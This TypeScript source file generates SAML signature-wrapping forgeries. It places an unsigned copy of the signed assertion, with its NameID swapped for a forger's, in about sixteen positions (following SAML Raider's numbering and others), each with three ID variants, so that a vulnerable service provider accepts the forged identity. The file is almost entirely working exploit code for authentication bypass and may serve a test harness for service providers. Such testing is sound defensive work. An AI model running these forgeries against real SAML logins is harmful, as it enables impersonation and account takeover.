import type { Element } from "@xmldom/xmldom";
import { copyOf, editXml, removed, signaturesIn, type Tree } from "./edit-xml";
import { type Forgeries, type Forgery, forgedNameId } from "./forgery";

const dsig = "http://www.w3.org/2000/09/xmldsig#";
const assertionUri = "urn:oasis:names:tc:SAML:2.0:assertion";
const protocolUri = "urn:oasis:names:tc:SAML:2.0:protocol";

/** Where the signed part goes and what stands in its place: signature wrapping by the numbers of SAML Raider. */
const moves: Readonly<Record<string, (tree: Tree, evil: Element) => void>> = {
  "1, the signed response inside the signature of a forged one": (tree) => wrapResponse(tree, "inside the signature"),
  "2, the signed response before the signature of a forged one": (tree) => wrapResponse(tree, "before the signature"),
  "3, before the signed assertion": ({ response, assertion }, evil) => response.insertBefore(evil, assertion),
  "4, around the signed assertion": ({ response, assertion }, evil) => {
    response.replaceChild(evil, assertion);
    evil.appendChild(assertion);
  },
  "5, with the signature, the signed assertion at the end": ({ response, assertion, signature }, evil) => {
    response.replaceChild(evil, assertion);
    evil.insertBefore(removed(signature), evil.firstChild);
    response.appendChild(assertion);
  },
  "6, with the signature and the signed assertion inside of it": ({ response, assertion, signature }, evil) => {
    response.replaceChild(evil, assertion);
    evil.insertBefore(removed(signature), evil.firstChild);
    signature.appendChild(assertion);
  },
  "7, in Extensions": ({ document, response, assertion }, evil) => {
    const extensions = document.createElementNS(protocolUri, "p:Extensions");
    extensions.appendChild(evil);
    response.insertBefore(extensions, assertion);
  },
  "8, with the signed assertion in an Object of the signature": (tree, evil) => {
    const { document, response, assertion, signature } = tree;
    const object = document.createElementNS(dsig, "d:Object");
    response.replaceChild(evil, assertion);
    evil.insertBefore(removed(signature), evil.firstChild);
    object.appendChild(assertion);
    signature.appendChild(object);
  },
  "9, with the signed assertion as its Advice": ({ document, response, assertion }, evil) => {
    const advice = document.createElementNS(assertionUri, "a:Advice");
    response.replaceChild(evil, assertion);
    advice.appendChild(assertion);
    evil.appendChild(advice);
  },
  "in the status": ({ document, find }, evil) => {
    const detail = document.createElementNS(protocolUri, "p:StatusDetail");
    detail.appendChild(evil);
    find("Status").appendChild(detail);
  },
  "in an Object of the signature": ({ document, signature }, evil) => {
    const object = document.createElementNS(dsig, "d:Object");
    object.appendChild(evil);
    signature.appendChild(object);
  },
  "in the KeyInfo of the signature": ({ document, signature }, evil) => {
    const keyInfo = document.createElementNS(dsig, "d:KeyInfo");
    keyInfo.appendChild(evil);
    signature.appendChild(keyInfo);
  },
  "after the signed assertion": ({ response }, evil) => response.appendChild(evil),
  "in the subject of the signed assertion": ({ find }, evil) => find("Subject").appendChild(evil),
  "in an attribute of the signed assertion": ({ find }, evil) => find("AttributeValue").appendChild(evil),
  "with the signed assertion as its attribute": ({ response, assertion, find }, evil) => {
    response.replaceChild(evil, assertion);
    find("AttributeValue", evil).appendChild(assertion);
  },
  "with a copy of the signature": ({ response, assertion, signature }, evil) => {
    evil.insertBefore(copyOf(signature), evil.firstChild);
    response.insertBefore(evil, assertion);
  },
};

const ids: Readonly<Record<string, (evil: Element) => void>> = {
  "an id of its own": (evil) => evil.setAttribute("ID", "_forged"),
  "the same id": () => undefined,
  "no id": (evil) => evil.removeAttribute("ID"),
};

/** A second assertion about somebody else, in every place that has fooled somebody, under every kind of id. */
export const wrapping: Forgeries = Object.fromEntries(
  Object.entries(moves).flatMap(([place, move]) =>
    Object.entries(ids).map(([id, identify]): [string, Forgery] => [
      `wrapping: ${place}, ${id}`,
      {
        xml: (xml) =>
          editXml(xml, (tree) => {
            const evil = forgedCopy(tree.assertion);
            identify(evil);
            move(tree, evil);
          }),
      },
    ]),
  ),
);

/** An assertion that says the same of the forger, without a signature. */
function forgedCopy(assertion: Element): Element {
  const evil = copyOf(assertion);
  for (const signature of signaturesIn(evil)) evil.removeChild(signature);
  const name = evil.getElementsByTagNameNS(assertionUri, "NameID")[0];
  if (name !== undefined) name.textContent = forgedNameId;
  return evil;
}

function wrapResponse(tree: Tree, place: "inside the signature" | "before the signature"): void {
  const { document, response, signature } = tree;
  const forged = copyOf(response);
  for (const each of signaturesIn(forged)) forged.removeChild(each);
  const assertion = forged.getElementsByTagNameNS(assertionUri, "Assertion")[0];
  assertion?.parentNode?.replaceChild(forgedCopy(assertion), assertion);
  const seal = removed(signature);
  document.replaceChild(forged, response);
  forged.insertBefore(seal, forged.firstChild);
  if (place === "inside the signature") seal.appendChild(response);
  else forged.insertBefore(response, seal);
}
